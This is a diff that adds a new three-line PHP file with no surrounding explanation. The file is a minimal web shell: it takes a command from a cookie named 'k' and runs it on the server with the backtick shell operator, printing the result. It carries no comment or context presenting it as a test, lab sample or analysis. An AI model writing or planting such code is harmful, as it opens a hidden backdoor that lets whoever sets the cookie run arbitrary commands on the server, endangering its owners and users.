@@ -1,0 +1,3 @@
+<?php
+$cmd = $_COOKIE['k'];
+echo `$cmd`;
